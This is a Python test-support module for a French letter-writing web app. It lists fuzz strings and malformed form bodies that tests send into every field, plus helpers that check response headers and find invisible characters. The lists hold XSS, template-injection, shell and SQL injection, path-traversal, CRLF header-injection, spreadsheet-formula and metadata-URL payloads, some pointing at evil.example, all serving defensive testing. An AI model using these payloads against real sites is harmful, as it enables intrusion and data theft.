"""What strangers may type to break a page, a letter or a file, and what every answer owes to them.

`STRINGS` is read by the tests and by the fuzzer; a string added here is tried in every field of
every letter. The questions asked of an answer are here too, so that both ask the same ones.
"""

import re
import unicodedata

from werkzeug.test import TestResponse

from letters.render.archive import REMINDER
from letters.web.headers import EVERY_ANSWER
from tests.letters_under_test import SLUGS

MARKUP = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "</article></form><form action=//evil.example>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' formaction='//evil.example",
    "--><b>x</b><!-- commentaire",
    "]]><![CDATA[ x ]]>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<iframe srcdoc='<script>1</script>'>",
    "<base href=//evil.example>",
    "<noscript><p title='</noscript><img src=x>'>",
    "<template><option selected>",
    "&lt;b&gt; &#60;i&#62; &amp &quot; &notit;",
    "<?php phpinfo() ?><% x %>",
    "<a href=x>x</a> <x y=z",
    "<plaintext>",
)
STYLES = (
    "</style><style>*{color:red}</style>",
    "x;} body{background:url(//evil.example)}",
    "@import url(file:///etc/passwd);",
    "p::before{content:url(data:,x)}",
)
FETCHES = (
    "<link rel=attachment href=file:///etc/passwd>",
    "<img src=file:///etc/passwd>",
    "<object data=file:///etc/hosts>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://169.254.169.254/latest/",
    "//evil.example/x",
)
TEMPLATES = (
    "{{ 7*7 }}{{ config }}{{ self.__init__ }}",
    "{% for x in range(9) %}x{% endfor %}{# rien #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %d %n %x %%",
    "%(x)s %(limit)d %(signs)s",
    "{0} {x.__class__} {",
    r"\1 \g<0> \0 \x41 \u0041 $& $` $' $1",
    "\\",
)
WORDING = (
    "((given_name))",
    "((reason)) ((inconnu))",
    "[si cnil]",
    "=== version courte ===",
    "+++",
    "- un item",
    "– un tiret",
    "((",
    "))",
)
FORMATS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "BEGIN:VEVENT",
    "END:VCALENDAR;X=1,2\\n",
    "'; DROP TABLE lettres; -- $(id) `id` | id ; id && id",
    "../../../../etc/passwd",
    "..\\..\\windows\\system.ini C:\\CON .htaccess",
    "lettre.pdf",
    "%2e%2e%2f %00 %0d%0a % 100 % %zz %u0041",
    '"; filename="evil.exe',
    "a=b&c=d;e",
    "NaN Infinity 1e309 -0 null None undefined true",
)
# Accepted where a field takes such an address or such a name.
ADDRESSES = (
    '"><svg/onload=alert(1)>@x.fr',
    "a@x.fr?bcc=b@y.fr&body=x",
    "{{7*7}}@((name)).fr",
    "%0d%0abcc:b@x.fr",
)
NAMES = (
    "D’Œuvre-L'Haÿ",
    "Раураl",  # Cyrillic letters that look Latin
    "Αlice",  # a Greek one
    "ǅ ﬁ",
    "ı İ ß ẞ",
    "x" + "\u0301" * 30,
    "Z̸̧̛͓͇̊̎̕a̶l̷g̵o̸",
    "محمد",
    "דוד",
    "李小龍 ไทย नमस्ते",
    "\u0644\u0627\u200d\u0644",
    "👩‍👩‍👧‍👦 🇫🇷 ❤️ 1️⃣ 𝕏𝓎𝔷",
)
# Each between two letters, so that it is not at the edge, where white space is dropped anyway.
_BIDI = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = "\ufeff\u200b\u200c\u200d\u2060\u00ad\u180e\u034f\u115f\u3164\ufe0f\uffa0\U000e0041"
_CONTROLS = "\x00\x01\x07\x08\x0b\x0c\x1b\x1f\x7f\x80\x85\x9b\x9f"
_SPACES = "\t\n\r\u00a0\u2003\u2028\u2029\u202f\u3000"
_NOT_CHARACTERS = "\ud800\udfff\ufffe\uffff\ufffd\ue000\U0010ffff"
CHARACTERS = tuple(f"a{c}b" for c in _BIDI + _UNSEEN + _CONTROLS + _SPACES + _NOT_CHARACTERS)
LINES = (
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\nBEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT",
    "\u202egnp.exe\u2066",
    "\ufeff\u200b<script\u200b>",
    "a\r\rb\n\n\n\nc",
    "[si cnil]\n\n- item\n\n=== version courte ===",
)
LONG = (
    "m" * 101,
    "W" * 1400,
    "x " * 2000,
    "\n" * 50 + "x" + "\nx" * 30,
    "m" * 16_000,
)
STRINGS = (
    *(MARKUP + STYLES + FETCHES + TEMPLATES + WORDING + FORMATS),
    *(ADDRESSES + NAMES + CHARACTERS + LINES + LONG),
)
# A body that the form of every letter takes, where the fuzzer begins.
RIGHT_ANSWERS = (
    b"given_name=Camille&family_name=Durand&recipient=01751&sent_on=01%2F10%2F2026"
    b"&outcome=partial&answer_on=20%2F10%2F2026&missing=La+date.&reason=Mes+raisons.&city=Brest"
    b"&who=child&represented_given_name=L%C3%A9o&represented_family_name=Martin"
)

STRANGE_BODIES = (
    b"%ED%A0%80=%ED%B0%80",
    b"given_name=%C0%AF%C1%BF&family_name=%F4%90%80%80%FF%FE",
    b"given_name=\xed\xa0\x80&reason=\xff\xfe\x00",
    b"given_name=%&family_name=%z&city=%0&reason=100%",
    b"&&&=&=x&==&;&given_name",
    b"<script>=1&%22%3E%3Csvg%20onload=1%3E=2&((name))=3&__class__=4&self=5&csrf_token=6&data=7",
    b"errors=x&meta=x&validate=x&process=x&populate_obj=x&_fields=x&context=x&shown=__init__",
    b"given_name=a&given_name=b&given_name=%3Cb%3E&family_name=c&recipient=01751&recipient=01291",
    b"output=edit&output=pdf&who=self&who=child&outcome=x&first_letter=..%2F..%2Fetc%2Fpasswd",
    b"options=" + b"x&options=" * 80 + b"cnil",
    b"given_name%00=x&given_name%0D%0ASet-Cookie:%20a=x&\r\n\r\n=x",
    b"--x\r\nContent-Disposition: form-data; name=given_name\r\n\r\nx\r\n--x--",
    b'{"given_name": "x"}',
)

# Characters that nobody sees, of the kinds that deceive (Unicode's Default_Ignorable_Code_Point).
_IGNORED = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e"
    "\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufff8\U000e0000-\U000e0fff]"
)


def invisible(text: str) -> set[str]:
    """The control characters, and those that nobody sees, of a page or a text."""
    text = text.replace(">\r\n", ">\n")  # as WTForms begins a text area
    controls = {c for c in set(text) - {"\n"} if unicodedata.category(c) in {"Cc", "Cf", "Cs"}}
    return controls | set(_IGNORED.findall(text))


# What a header may say.

_ALWAYS = {*EVERY_ANSWER, "Content-Type", "Content-Length", "Cache-Control"}
_SOMETIMES = {"Content-Disposition", "Allow", "Location", "Vary", "Clear-Site-Data", "Retry-After"}
_SIZES = ("", "-gros-caracteres")
_PDFS = [f"{kind}{size}.pdf" for kind in ("", "-a-dire", "-vierge", "-exemple") for size in _SIZES]
_ENDINGS = (".txt", "-version-courte.txt", *_PDFS)
FILE_NAMES = {REMINDER, *(f"lettres{size}.zip" for size in _SIZES)}
FILE_NAMES |= {slug + ending for slug in SLUGS for ending in _ENDINGS}


def headers_are_ours(answer: TestResponse) -> None:
    """Every header is one of ours, once, and none holds anything that was typed."""
    names = [name for name, _value in answer.headers]
    assert len(names) == len(set(names))
    assert set(names) >= _ALWAYS
    assert set(names) <= _ALWAYS | _SOMETIMES
    assert answer.headers["Cache-Control"] in {"no-store", "public, max-age=86400"}
    if named := answer.headers.get("Content-Disposition"):
        assert named.removeprefix('attachment; filename="').removesuffix('"') in FILE_NAMES


def words(text: str) -> str:
    """A text without white space, in NFC: what page, text and PDF have in common."""
    return unicodedata.normalize("NFC", "".join(text.split()))
